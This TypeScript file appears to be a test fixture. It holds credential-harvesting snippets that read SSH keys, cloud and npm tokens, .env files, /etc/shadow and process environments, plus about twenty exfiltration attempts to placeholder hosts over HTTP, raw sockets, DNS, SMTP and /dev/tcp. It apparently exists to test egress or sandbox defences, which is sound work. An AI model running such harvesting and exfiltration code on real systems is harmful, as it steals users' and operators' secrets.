/** Where each looks for secrets; what it finds goes to a file of its own, so that a test sees it. */
const PLACES = [
  '$HOME/.npmrc',
  '$HOME/.ssh/id_rsa',
  '$HOME/.aws/credentials',
  '$HOME/.config/gh/hosts.yml',
  '.env',
  'app/.env.production',
  '.npmrc',
  '.git/config',
  '/etc/shadow',
  '/run/docker.sock',
]

const NODE_LOOT = `const fs = require('node:fs'); let loot = JSON.stringify(process.env);
for (const p of ${JSON.stringify(PLACES)}) try { loot += fs.readFileSync(p.replace('$HOME', process.env.HOME), 'utf8') } catch {}
for (const p of fs.readdirSync('/proc')) try { loot += fs.readFileSync('/proc/' + p + '/environ', 'utf8') } catch {}
fs.writeFileSync(process.argv[2], loot);`

const PYTHON_LOOT = `import os, sys, glob
loot = repr(dict(os.environ))
for p in ${JSON.stringify(PLACES)} + glob.glob('/proc/*/environ'):
    try: loot += open(p.replace('$HOME', os.environ['HOME']), errors='replace').read()
    except OSError: pass
open(sys.argv[1], 'w').write(loot)
`

const SHELL_LOOT = `{ env; cat ${PLACES.join(' ')} /proc/*/environ; } > "$1" 2>/dev/null || true`

export interface Stealer {
  /** the program that starts it; its file is given behind, and the loot's behind that */
  readonly program: readonly string[]
  readonly text: string
  /** whom it tries to reach */
  readonly host: string
}

function node(host: string, send: string): Stealer {
  return { program: ['node'], text: `${NODE_LOOT}\nconst on = () => {};\n${send}`, host }
}

function python(host: string, send: string): Stealer {
  const indented = send
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n')
  return { program: ['python3'], text: `${PYTHON_LOOT}try:\n${indented}\nexcept Exception: pass\n`, host }
}

function shell(host: string, send: string): Stealer {
  return { program: ['bash'], text: `${SHELL_LOOT}\n${send} >/dev/null 2>&1 || true`, host }
}

/** Inert re-enactments: hosts that do not exist, and addresses for documentation. */
export const STEALERS: readonly Stealer[] = [
  node('n1.invalid', `require('https').request('https://n1.invalid/x', { method: 'POST' }).on('error', on).end(loot)`),
  node('n2.invalid', `require('http').get('http://n2.invalid/?' + loot.length).on('error', on)`),
  node('n3.invalid', `fetch('https://n3.invalid/', { method: 'POST', body: loot }).catch(on)`),
  node('n4.invalid', `require('net').connect(4444, 'n4.invalid').on('error', on).end(loot)`),
  node('736563726574.n5.invalid', `require('dns').resolve4('736563726574.n5.invalid', on)`),
  node('n6.invalid', `require('tls').connect(443, 'n6.invalid').on('error', on)`),
  node('203.0.113.7', `require('net').connect(443, '203.0.113.7').on('error', on)`),
  node(
    'n8.invalid',
    `require('child_process').spawn(process.execPath, ['-e', "fetch('http://n8.invalid:8080/').catch(() => {})"], { stdio: 'ignore' })`,
  ),
  node('n9.invalid', `require('http2').connect('https://n9.invalid').on('error', on)`),
  node('n10.invalid', `require('child_process').exec('git ls-remote https://n10.invalid/a.git', on)`),
  python('p1.invalid', `import urllib.request\nurllib.request.urlopen('http://p1.invalid/', b'x', 3)`),
  python(
    'p2.invalid',
    `import http.client\nhttp.client.HTTPSConnection('p2.invalid', timeout=3).request('POST', '/', 'x')`,
  ),
  python('p3.invalid', `import socket\nsocket.create_connection(('p3.invalid', 1337), 3)`),
  python('p4.invalid', `import smtplib\nsmtplib.SMTP('p4.invalid', 25, timeout=3)`),
  python('p5.invalid', `import ftplib\nftplib.FTP('p5.invalid', timeout=3)`),
  python('198.51.100.4', `import socket\nsocket.create_connection(('198.51.100.4', 53), 3)`),
  python('c2ec.p7.invalid', `import socket\nsocket.gethostbyname('c2ec.p7.invalid')`),
  shell('s1.invalid', `curl -m 3 -d @"$1" https://s1.invalid/`),
  shell('s2.invalid', `exec 3<>/dev/tcp/s2.invalid/80; cat "$1" >&3`),
  shell('s3.invalid', `python3 -c "import urllib.request as u; u.urlopen('http://s3.invalid:8000/')"`),
]
